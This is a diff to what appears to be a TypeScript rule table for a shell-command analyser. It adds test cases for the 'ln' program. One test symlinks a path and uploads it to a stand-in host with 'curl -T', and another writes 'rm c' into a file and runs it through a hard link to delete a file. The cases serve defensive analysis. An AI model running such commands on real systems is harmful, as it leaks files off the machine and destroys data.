@@ -66,6 +66,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
       "--backup=? -b -d,-F,--directory -f,--force -i,--interactive -L,--logical -n,-h,--no-dereference -P,--physical -r,--relative -s,--symbolic -S,--suffix= -t,--target-directory=into -T,--no-target-directory -v,--verbose",
     ),
     operands: "list link",
+    copies: true,
     when: [
       { has: ["-t"], operands: "linked*" },
       { all: ["-s"], least: 3, operands: "linked+ into" },
@@ -75,6 +76,18 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
     tests: [
       { run: "ln -s /etc/passwd x", writes: ["./x"] },
       { run: "ln a b", reads: ["./a"], writes: ["./b"] },
+      {
+        run: "ln -s k x; curl -T x h.example",
+        reads: ["./x"],
+        writes: ["./x"],
+        network: ["both http://h.example < ./x < ./k/**"],
+      },
+      {
+        run: "echo 'rm c' > a; ln a b; sh b",
+        reads: ["./a", "./b"],
+        writes: ["./a", "./b"],
+        deletes: ["./c"],
+      },
     ],
   },
   {
